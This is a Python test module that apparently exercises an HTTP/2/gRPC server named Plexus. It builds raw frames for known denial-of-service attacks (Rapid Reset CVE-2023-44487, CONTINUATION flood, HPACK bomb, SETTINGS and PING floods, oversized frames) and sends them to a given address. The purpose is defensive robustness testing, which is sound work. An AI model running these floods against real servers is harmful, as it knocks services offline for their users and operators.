"""Raw HTTP/2 attack clients for TESTING.md §B: frames built with hyperframe and hpack (never with Plexus's
codec), written to a real socket, and the peer's answer read back as frames."""

from __future__ import annotations

import socket
import struct
import time
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"  # RFC 9113 §3.4
CANCEL = 0x8
FRAME_SIZE_ERROR = 0x6
ENHANCE_YOUR_CALM = 0xB
DATA_TYPE = 0x0


def preface() -> bytes:
    return PREFACE + SettingsFrame(0).serialize()


def grpc_request(authority: str, path: str, service: str | None = None) -> list[tuple[bytes, bytes]]:
    """The request head grpcio would send for ``path`` (plus ``x-plexus-service`` for an ingress)."""
    head = [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path.encode()),
        (b":authority", authority.encode()),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    ]
    if service is not None:
        head.append((b"x-plexus-service", service.encode()))
    return head


def headers(stream_id: int, block: bytes, end_headers: bool = True, end_stream: bool = False) -> bytes:
    frame = HeadersFrame(stream_id)
    frame.data = block
    if end_headers:
        frame.flags.add("END_HEADERS")
    if end_stream:
        frame.flags.add("END_STREAM")
    return frame.serialize()


def continuation(stream_id: int, block: bytes, end_headers: bool = False) -> bytes:
    frame = ContinuationFrame(stream_id)
    frame.data = block
    if end_headers:
        frame.flags.add("END_HEADERS")
    return frame.serialize()


def data(stream_id: int, payload: bytes, end_stream: bool = False) -> bytes:
    frame = DataFrame(stream_id, payload)
    if end_stream:
        frame.flags.add("END_STREAM")
    return frame.serialize()


def rst(stream_id: int, code: int = CANCEL) -> bytes:
    frame = RstStreamFrame(stream_id)
    frame.error_code = code
    return frame.serialize()


def ping(n: int) -> bytes:
    return PingFrame(0, opaque_data=struct.pack(">Q", n)).serialize()


def settings() -> bytes:
    return SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize()


def raw_frame_header(length: int, ftype: int, flags: int, stream_id: int) -> bytes:
    """RFC 9113 §4.1: 24-bit length, type, flags, R + 31-bit stream id."""
    return struct.pack(">I", length)[1:] + bytes((ftype, flags)) + struct.pack(">I", stream_id)


# --- the attacks: each yields the chunks to write, one write each ------------------------------------------


def rapid_reset(
    head: Sequence[tuple[bytes, bytes]], pairs: int = 10_000, batch: int = 200
) -> Iterator[bytes]:
    """CVE-2023-44487: HEADERS then RST_STREAM(CANCEL), ``pairs`` times, ``batch`` pairs per write."""
    enc = Encoder()
    yield preface()
    for first in range(0, pairs, batch):
        yield b"".join(
            headers(2 * n + 1, enc.encode(head)) + rst(2 * n + 1)
            for n in range(first, min(first + batch, pairs))
        )


def continuation_flood(head: Sequence[tuple[bytes, bytes]], frames: int = 10_000) -> Iterator[bytes]:
    """A header block that never ends: HEADERS without END_HEADERS, then endless 1-byte CONTINUATIONs."""
    block = Encoder().encode(head)
    yield preface() + headers(1, block[:3], end_headers=False)
    for _ in range(0, frames, 500):
        yield continuation(1, b"\x00") * 500


def hpack_bomb(head: Sequence[tuple[bytes, bytes]]) -> Iterator[bytes]:
    """Under 5 KB on the wire: one 4 KB header indexed once, then referenced 100 times (400 KB decoded)."""
    block = Encoder().encode([*head, *([(b"x-bomb", b"a" * 4000)] * 100)])
    assert len(block) < 5000
    yield preface() + headers(1, block)


def settings_flood(count: int = 2_000) -> Iterator[bytes]:
    yield preface()
    for _ in range(0, count, 100):
        yield settings() * 100


def ping_flood(count: int = 2_000) -> Iterator[bytes]:
    yield preface()
    for first in range(0, count, 100):
        yield b"".join(ping(n) for n in range(first, first + 100))


def oversized_frame() -> Iterator[bytes]:
    """A DATA frame header announcing 16 MiB - 1 bytes (the limit is 16 KiB): refusable from 9 bytes."""
    yield preface() + raw_frame_header(0xFFFFFF, DATA_TYPE, 0, 1)


# --- the connection ---------------------------------------------------------------------------------------


@dataclass
class Outcome:
    """What the attacker saw."""

    frames: list[Frame] = field(default_factory=list)
    closed: bool = False  # the peer closed (or reset) the connection
    chunks_written: int = 0
    write_failed: bool = False  # the peer stopped reading / closed while we still wrote
    seconds: float = 0.0

    @property
    def goaways(self) -> list[GoAwayFrame]:
        return [f for f in self.frames if isinstance(f, GoAwayFrame)]

    def describe(self) -> str:
        kinds = [type(f).__name__ for f in self.frames]
        goaway = [(g.error_code, g.last_stream_id, bytes(g.additional_data)) for g in self.goaways]
        return (
            f"wrote {self.chunks_written} chunks (write failed: {self.write_failed}), "
            f"closed={self.closed} after {self.seconds:.2f}s, frames={len(kinds)} "
            f"last kinds={kinds[-5:]}, goaway={goaway}"
        )


class _FrameReader:
    def __init__(self) -> None:
        self.buffer = b""

    def feed(self, data: bytes) -> list[Frame]:
        self.buffer += data
        out: list[Frame] = []
        while len(self.buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            if len(self.buffer) < 9 + length:
                break
            frame.parse_body(memoryview(self.buffer[9 : 9 + length]))
            self.buffer = self.buffer[9 + length :]
            out.append(frame)
        return out


def attack(address: str, chunks: Iterator[bytes], timeout: float = 5.0) -> Outcome:
    """Write ``chunks`` to ``address``, reading between writes; stop writing at the first GOAWAY, then read
    until the peer closes or ``timeout`` passes."""
    host, _, port = address.rpartition(":")
    outcome = Outcome()
    reader = _FrameReader()
    started = time.monotonic()
    deadline = started + timeout

    def drain(sock: socket.socket, wait: float) -> None:
        sock.settimeout(wait)
        while not outcome.closed:
            try:
                data = sock.recv(65536)
            except (TimeoutError, BlockingIOError):
                return
            except OSError:  # reset by the peer
                outcome.closed = True
                return
            if not data:
                outcome.closed = True
                return
            outcome.frames += reader.feed(data)
            sock.settimeout(0.001 if wait < 0.01 else wait)

    with socket.create_connection((host, int(port)), timeout=timeout) as sock:
        for chunk in chunks:
            try:
                sock.settimeout(max(0.01, deadline - time.monotonic()))
                sock.sendall(chunk)
            except OSError:
                outcome.write_failed = True
                break
            outcome.chunks_written += 1
            drain(sock, 0.001)
            if outcome.goaways or outcome.closed or time.monotonic() > deadline:
                break
        while not outcome.closed and time.monotonic() < deadline:
            drain(sock, max(0.01, deadline - time.monotonic()))
    outcome.seconds = time.monotonic() - started
    return outcome


# --- a plain gRPC call over raw HTTP/2 (no client-side deadline, every frame visible) -----------------------


@dataclass
class RawReply:
    headers: list[tuple[bytes, bytes]] = field(default_factory=list)
    data: bytes = b""
    trailers: list[tuple[bytes, bytes]] = field(default_factory=list)
    trailers_only: bool = False  # one HEADERS frame with END_STREAM, as gRPC's Trailers-Only response
    reset: int | None = None  # RST_STREAM error code, if the stream was reset
    seconds: float = 0.0

    def status(self) -> tuple[str, str]:
        """(grpc-status, grpc-message) from the trailers, or from the headers of a Trailers-Only reply."""
        fields = dict(self.trailers or self.headers)
        return fields.get(b"grpc-status", b"").decode(), fields.get(b"grpc-message", b"").decode()


def raw_grpc_call(
    address: str, path: str, message: bytes, extra: Sequence[tuple[bytes, bytes]] = (), timeout: float = 10.0
) -> RawReply:
    """One unary gRPC call with the ``h2`` library as the client; nothing enforces a deadline here."""
    import h2.config
    import h2.connection
    import h2.events

    host, _, port = address.rpartition(":")
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
    conn.initiate_connection()
    head = [*grpc_request(address, path), *extra]
    reply = RawReply()
    started = time.monotonic()
    with socket.create_connection((host, int(port)), timeout=timeout) as sock:
        conn.send_headers(1, head)
        conn.send_data(1, struct.pack(">BI", 0, len(message)) + message, end_stream=True)
        sock.sendall(conn.data_to_send())
        done = False
        while not done:
            sock.settimeout(max(0.01, started + timeout - time.monotonic()))
            data = sock.recv(65536)
            if not data:
                break
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived):
                    reply.headers = [(bytes(k), bytes(v)) for k, v in event.headers]
                    reply.trailers_only = event.stream_ended is not None
                elif isinstance(event, h2.events.DataReceived):
                    reply.data += event.data
                    conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                elif isinstance(event, h2.events.TrailersReceived):
                    reply.trailers = [(bytes(k), bytes(v)) for k, v in event.headers]
                elif isinstance(event, h2.events.StreamReset):
                    reply.reset = int(event.error_code)
                    done = True
                if isinstance(event, h2.events.StreamEnded | h2.events.ConnectionTerminated):
                    done = True
            sock.sendall(conn.data_to_send())
    reply.seconds = time.monotonic() - started
    return reply
